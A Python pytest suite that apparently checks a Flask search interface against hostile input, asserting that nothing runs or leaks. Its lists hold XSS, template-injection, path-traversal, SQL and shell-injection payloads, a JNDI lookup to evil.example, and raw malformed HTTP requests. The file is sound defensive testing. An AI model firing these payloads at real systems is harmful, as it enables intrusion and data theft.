"""Attacks in every field: nothing is executed, nothing is leaked, every answer is a proper one.

The addresses and parameters are those of the application, so that a new view is attacked, too.
"""

import csv
import io
import json
import logging
import os
import re
import socket
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import parse_qs, quote, urlsplit

import pytest
from flask import Flask
from playwright.sync_api import Browser, Dialog, Response
from werkzeug.test import TestResponse

from indexer import Index
from tests.web.browsing import serving
from tests.web.conftest import write_jsonl
from tests.web.test_network import check_headers
from tests.web.test_pages import Node, read
from tests.web.test_serving import serve
from webui import create_app
from webui.options import Options
from webui.passwords import password_hash

ATTACKS = [
    "<script>alert(1)</script>",
    "\"'><img src=x onerror=alert(1)>",
    "</title></script><svg onload=alert(1)>",
    "{{ config }}{{ 77777 * 77777 }}{% include '/etc/passwd' %}${77777*77777}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "//evil.example/",
    "%2e%2e/%2e%2e/etc/passwd",
    "file:///etc/passwd",
    "' OR 1=1; DROP TABLE documents; --",
    "$(touch /tmp/injected)`id`|id",
    "a\r\nSet-Cookie: stolen=1\r\n\r\n<script>",
    "\x00\x1b[31m\x08",
    "__class__.__mro__",
    "%s%n%x%d",
    "{0.__class__}{query}{}",
    "javascript:alert(1)",
    "=HYPERLINK(1)+@-",
    "]]></summary><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;\x0b\ufffe",
    "\u202etxt.exe\u2066\u200f",
    "*" * 500,
    "(" * 500,
    "9" * 500,
    "２０２４..²",
    "\ud800",
]

LEAKS = (
    "root:x:0", "Traceback", 'File "', "jinja2", "werkzeug", "waitress", "site-packages",
    "SECRET_KEY", "6049261729", "Mot de passe",
)  # fmt: skip

ODD_STATUS = {400, 401, 403, 404, 405, 414, 416, 421, 429}

PARAMETERS = (
    "q", "lang", "type", "folder", "source", "year", "sort", "page", "limit", "explain", "facets",
    "hl", "id", "fragments", "readings", "in",
)  # fmt: skip

HEADERS = (
    "Host", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto", "Forwarded",
    "Accept-Language", "Accept", "Authorization", "Cookie", "Referer", "Origin", "Range",
    "If-Range", "If-None-Match", "If-Modified-Since", "User-Agent", "Content-Type",
    "X-HTTP-Method-Override", "X-Original-URL",
)  # fmt: skip


def hostile() -> Iterator[dict[str, str]]:
    """Yield documents with an attack in each of their fields."""
    for number, attack in enumerate(ATTACKS):
        yield {
            "id": f"{attack}{number}",
            "title": f"{attack} phare",
            "body": f"{attack} Le phare éclaire {attack} la mer.\n\n{attack} A lighthouse shines.",
            "url": attack if number % 2 else f"https://example.org/{attack}",
            "lang": attack,
            "date": attack if number % 3 else "2024-05-06",
            attack: attack,
        }


@dataclass(frozen=True, slots=True)
class Attacked:
    """A page over hostile documents: its application, and folders that no answer may name."""

    app: Flask
    secrets: tuple[str, ...]
    ids: tuple[str, ...]


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Attacked:
    root = tmp_path_factory.mktemp("attacked")
    folder = root / "dossier"
    (folder / "sous <b>").mkdir(parents=True)
    (root / "secret.txt").write_text("Un phare dans la nuit.")
    write_jsonl(folder / "hostile.jsonl", (_writable(each) for each in hostile()))
    for number, name in enumerate(
        ("=cmd|' !A0", '"; filename=x.html', "a\r\nSet-Cookie: stolen=1\r\n\r\n<b>", "\u202etxt")
    ):
        (folder / f"{name}.txt").write_text(f"Le phare numéro {number}.")
        (folder / "sous <b>" / f"{name}.html").write_text(
            f"<title>phare {number}</title><script>alert(1)</script><p>Un phare."
        )
    (folder / "lien.txt").symlink_to(root / "secret.txt")
    Index.build(root / "index", [folder]).close()
    # What the link leads to was indexed; what is there now was not.
    (root / "secret.txt").write_text("Mot de passe du phare.")
    app = create_app(str(root / "index"), Options(rate=0))
    found = app.test_client().get("/api/search?q=phare&limit=100").get_json()
    ids = tuple(hit["document"]["id"] for hit in found["hits"])
    return Attacked(app, (str(root), str(Path(__file__).parents[2])), ids)


def _writable(record: dict[str, str]) -> dict[str, str]:
    # A lone surrogate has no UTF-8, but a JSON escape; the corpus is written without any.
    return {
        key.replace("\ud800", "\\ud800"): value.replace("\ud800", "\\ud800")
        for key, value in record.items()
    }


def check_harmless(response: TestResponse, secrets: tuple[str, ...]) -> None:
    """Hold an answer to everything that must be true of it, whatever was asked."""
    assert response.status_code in {200, 206, 308} | ODD_STATUS, response.status_code
    check_headers(response)
    assert "stolen" not in {name.lower() for name, _ in response.headers}
    assert not [value for _, value in response.headers if re.search(r"[\r\n\x00]", value)]
    text = response.get_data(as_text=True)
    for leak in (*LEAKS, *secrets):
        assert leak not in text, leak
    match response.mimetype:
        case "text/html":
            if response.status_code != 308:
                check_page(read(response))
        case "application/json" | "application/problem+json" | "application/x-suggestions+json":
            json.loads(text)
        case "application/x-ndjson":
            assert response.headers["Content-Disposition"].startswith("attachment;")
            for line in text.split("\n")[:-1]:
                json.loads(line)
        case "text/csv":
            assert response.headers["Content-Disposition"].startswith("attachment;")
            # Opened in the Excel of its language, and in that of the other.
            for separator in ",;":
                file = io.StringIO(text.removeprefix("\ufeff"), newline="")
                cells = {cell for row in csv.reader(file, delimiter=separator) for cell in row}
                assert not [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@")]
        case "application/atom+xml" | "application/opensearchdescription+xml":
            ET.fromstring(response.data)  # noqa: S314  # our own answer
        case kind:
            assert kind in ("text/plain", "text/css", "text/javascript", "image/svg+xml",
                            "application/octet-stream"), kind  # fmt: skip


def check_page(page: Node) -> None:
    """Hold a page to what it may consist of, whatever stands in it."""
    for name, given, text in page.elements:
        assert name not in ("iframe", "object", "embed", "base", "style", "frame"), name
        assert not [each for each in given if each.startswith("on") or each == "style"], given
        if name == "script":
            assert given["src"].startswith("/static/") and not "".join(text).strip()
        if name in ("img", "link", "form"):
            target = given.get("src") or given.get("href") or given.get("action") or ""
            assert target.startswith(("/", "?")) and not target.startswith("//"), target
        if name == "a":
            scheme = urlsplit(given["href"]).scheme
            assert scheme in ("", "http", "https"), given["href"]
            assert not given["href"].startswith("//"), given["href"]
            if scheme:
                assert "external" in given["rel"] and "noreferrer" in given["rel"]


def views(app: Flask) -> list[str]:
    """Return every address that the application answers, without what stands for an id."""
    return sorted({re.sub(r"<[^>]+>", "", rule.rule) for rule in app.url_map.iter_rules()})


def quoted(text: str) -> str:
    return quote(text.encode("utf-8", "surrogatepass"), safe="")


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda text: ascii(text)[:25])
def test_attacks_do_nothing_wherever_they_stand(attacked: Attacked, attack: str) -> None:
    client, value = attacked.app.test_client(), quoted(attack)
    for view in views(attacked.app):
        for name in (
            PARAMETERS if view == "/" else ("q", "folder", "hl", "id", "page", "limit", "in")
        ):
            rest = "" if name == "q" else "&q=phare"
            check_harmless(client.get(f"{view}?{name}={value}{rest}"), attacked.secrets)
        check_harmless(client.get(f"{view}?{value}={value}&hl=fr"), attacked.secrets)
        check_harmless(client.get(f"{view.rstrip('/')}/{value}?q={value}"), attacked.secrets)
        # Not quoted either: what a server may find in a path that it has unquoted.
        path = view.rstrip("/") + "/" + attack.encode("utf-8", "replace").decode()
        check_harmless(client.get(path.replace("?", "")), attacked.secrets)


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda text: ascii(text)[:25])
@pytest.mark.parametrize("proxies", [0, 1])
def test_attacks_in_headers(attacked: Attacked, location: str, proxies: int, attack: str) -> None:
    client = create_app(location, Options(proxies=proxies, rate=0)).test_client()
    value = re.sub(r"[\r\n\0]", " ", attack.encode("utf-8", "replace").decode("latin-1"))
    for name in HEADERS:
        for address in ("/?q=phare", "/feed.atom?q=phare&hl=fr", "/static/style.css", "/documents"):
            response = client.get(address, headers={name: value})
            check_harmless(response, (location,))


@pytest.mark.parametrize("host", ["a..b", ".", "a" * 70, "a b", "é.fr", "[::1", "a@b", "a:99999"])
@pytest.mark.parametrize("hosts", [None, frozenset(("localhost",))], ids=["network", "local"])
def test_a_host_that_is_no_name_is_refused(
    location: str,
    caplog: pytest.LogCaptureFixture,
    host: str,
    hosts: frozenset[str] | None,
) -> None:
    client = create_app(location, Options(hosts=hosts)).test_client()
    for address in ("/?q=phare", "/rien", "/feed.atom?q=phare", "/api/search?q=phare", "/healthz"):
        response = client.get(address, headers={"Host": host})
        assert response.status_code == (400 if hosts is None else 421)
        check_harmless(response, (location,))
    assert not [record for record in caplog.records if record.levelno >= logging.ERROR]


AUTHORIZATIONS = [
    "", "Basic", "Basic ", "Basic !!!", "Basic ////", "Basic " + "A" * 9000, "Digest a",
    "Digest username=x, password=y", "Bearer x", "Basic password=x", "Negotiate \xff", "=", ",",
]  # fmt: skip


@pytest.fixture(scope="module")
def hashed() -> str:
    return password_hash("Élan d’été")


@pytest.mark.parametrize("given", AUTHORIZATIONS, ids=lambda text: ascii(text)[:20])
def test_nothing_but_the_password_opens(location: str, hashed: str, given: str) -> None:
    app = create_app(location, Options(password_hash=hashed))
    client, open_to_all = app.test_client(), ("/static/", "/healthz")
    for view in views(app):
        response = client.get(f"{view}?q=phare&id=oeuvre", headers={"Authorization": given})
        check_harmless(response, (location,))
        if not view.startswith(open_to_all):
            assert response.status_code in (401, 429), view
            assert "phare du" not in response.get_data(as_text=True)
    assert app.test_client().get("/healthz").status_code == 200


def test_what_hostile_documents_say_stays_text(attacked: Attacked) -> None:
    client = attacked.app.test_client()
    assert len(attacked.ids) >= len(ATTACKS)
    searches = [f"{address}?q={word}&hl=fr{more}"
                for address in ("/", "/api/search", "/export.csv", "/export.jsonl", "/feed.atom")
                for word in ("phare", "lighthouse", "alert", "etc+passwd")
                for more in ("", "&page=2", "&explain=1")]  # fmt: skip
    for address in searches:
        check_harmless(client.get(address), attacked.secrets)
    for id in attacked.ids:
        for path in ("/documents/", "/api/documents/", "/originals/"):
            response = client.get(path, query_string={"id": id, "q": "phare"})
            # The bytes of a file are handed out as they are: as a file to keep, whatever it is.
            if path == "/originals/" and response.status_code == 200:
                check_headers(response)
                assert response.mimetype == "application/octet-stream"
                assert response.headers["Content-Disposition"].startswith("attachment;")
                assert not re.search(r"[\r\n\u202e]", response.headers["Content-Disposition"])
            else:
                check_harmless(response, attacked.secrets)
                assert (response.status_code == 200) == (path != "/originals/"), id


def test_every_hit_leads_to_its_document(attacked: Attacked) -> None:
    client = attacked.app.test_client()
    seen = set()
    for number in (1, 2, 3, 4):
        page = read(client.get(f"/?q=phare&page={number}"))
        for href, title in page.links():
            if href.startswith("/documents/"):
                shown = client.get(href)
                assert shown.status_code == 200, href
                assert read(shown).one("h1")[1].split() == title.split()
                seen.add(href)
    assert len(seen) == len(attacked.ids)


def escapes(id: str) -> Iterator[str]:
    """Yield ways to climb out of the indexed folders from an id, as paths of an address."""
    for up in ("..", "%2e%2e", ".%2e", "%252e%252e", "..%2f..", "..;", "%c0%ae%c0%ae", "....//"):
        for slash in ("/", "%2f", "%5c", "\\", "//", "%252f"):
            yield f"/originals/{slash.join((up, 'secret.txt'))}"
            yield f"/originals/{slash.join((quote(id, safe=''), up, up, 'secret.txt'))}"
            yield f"/originals/?id=dossier{slash}{up}{slash}secret.txt"
            yield f"/static/{slash.join((up, up, '__init__.py'))}"
    for end in ("%00", "%00.txt", "%0a", "%20", ".", "/", "::$DATA", "#", "%3f"):
        yield f"/originals/..%2fsecret.txt{end}"
        yield f"/originals/?id=../secret.txt{end}"


def test_no_path_leads_out_of_the_folders(attacked: Attacked) -> None:
    client = attacked.app.test_client()
    (id,) = [each for each in attacked.ids if each.endswith("\u202etxt.txt")]
    for address in escapes(id):
        response = client.get(address)
        assert response.status_code == 404, address
        check_harmless(response, attacked.secrets)
    # One that was a link when it was indexed is in the index, but not to be had.
    assert client.get("/documents/dossier/lien.txt").status_code == 200
    refused = client.get("/originals/dossier/lien.txt")
    assert refused.status_code == 403
    check_harmless(refused, attacked.secrets)


# -- over a socket: what no well-behaved client sends ----------------------------------------------


@pytest.fixture(scope="module")
def port(location: str) -> Iterator[int]:
    """Serve the page as its keeper does and yield the port."""
    process, address = serve(location, "--rate=0")
    with process:
        yield urlsplit(address).port or 0
        process.terminate()


RAW = [
    (b"GET /?q=a HTTP/1.1\r\nHost: a..b\r\n\r\n", 421),
    (b"GET /?q=a HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\n\r\n", 421),
    (b"GET http://evil.example/?q=a HTTP/1.1\r\nHost: localhost\r\n\r\n", 200),
    (b"GET //evil.example/%2e%2e/ HTTP/1.1\r\nHost: localhost\r\n\r\n", 404),
    (b"GET /documents/../../../etc/passwd HTTP/1.1\r\nHost: localhost\r\n\r\n", 404),
    (b"GET /originals/%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1\r\nHost: localhost\r\n\r\n", 404),
    (b"GET /?q=\xff\xfe HTTP/1.1\r\nHost: localhost\r\n\r\n", 400),
    (b"GET / HTTP/1.1\r\nHost: localhost\r\nX: a\nInjected: b\r\n\r\n", 400),
    (b"GET / HTTP/1.1\r\nHost: localhost\r\nBad Name: b\r\n\r\n", 400),
    (b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: -1\r\n\r\n", 400),
    (b"OPTIONS * HTTP/1.1\r\nHost: localhost\r\n\r\n", 404),
    (b"CONNECT evil.example:80 HTTP/1.1\r\nHost: localhost\r\n\r\n", 404),
    (b"<script>alert(1)</script>\r\n\r\n", 400),
]


@pytest.mark.parametrize(("sent", "status"), RAW, ids=lambda value: ascii(value)[2:40])
def test_raw_requests(port: int, location: str, sent: bytes, status: int) -> None:
    with socket.create_connection(("127.0.0.1", port), timeout=20) as connection:
        connection.sendall(sent.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n"))
        answer = b"".join(iter(lambda: connection.recv(65536), b"")).decode("utf-8")
    head, _, body = answer.partition("\r\n\r\n")
    assert int(head.split()[1]) == status
    assert "evil.example" not in head and "Injected" not in head
    for leak in ("Traceback", "site-packages", "root:x:0", location, os.fspath(Path.cwd())):
        assert leak not in answer
    # What the server refuses before the application sees it is plain text, which nothing runs in.
    own = "Content-Security-Policy" in head
    assert own or "Content-Type: text/plain" in head
    assert own or "<script" not in body


# -- in a browser: what would run if something could ----------------------------------------------


@pytest.mark.browser
def test_nothing_runs_in_a_browser(attacked: Attacked, browser: Browser) -> None:
    ran: list[str] = []

    def noticed(dialog: Dialog) -> None:
        ran.append(dialog.message)
        dialog.dismiss()

    def answered(response: Response) -> None:
        if response.request.resource_type not in ("document", "fetch", "xhr"):
            # Nothing but the files of the page itself is asked for.
            path = urlsplit(response.url).path
            if not path.startswith("/static/") and path != "/opensearch.xml":
                ran.append(response.url)

    with (
        serving(attacked.app) as server,
        browser.new_context(base_url=server) as context,
    ):
        page = context.new_page()
        page.on("dialog", noticed)
        page.on("response", answered)
        page.on("request", lambda r: None if r.url.startswith(server) else ran.append(r.url))
        page.on("console", lambda message: ran.append(message.text))
        page.on("pageerror", lambda error: ran.append(str(error)))
        addresses = [f"/?q=phare&page={number}&explain=1" for number in (1, 2, 3, 4)]
        addresses += [f"/documents/?id={quoted(id)}&q=phare+alert" for id in attacked.ids]
        addresses += [f"/?q={quoted(attack)}&hl=fr" for attack in ATTACKS]
        for address in addresses:
            response = page.goto(address)
            assert response is not None and response.status in (200, 400), address
            asked = parse_qs(urlsplit(page.url).query).keys()
            assert asked <= {"q", "hl", "id", "page", "explain"}
    # A query that cannot be read is answered 400, which Chromium writes to its console.
    assert [each for each in ran if "status of 400" not in each] == []
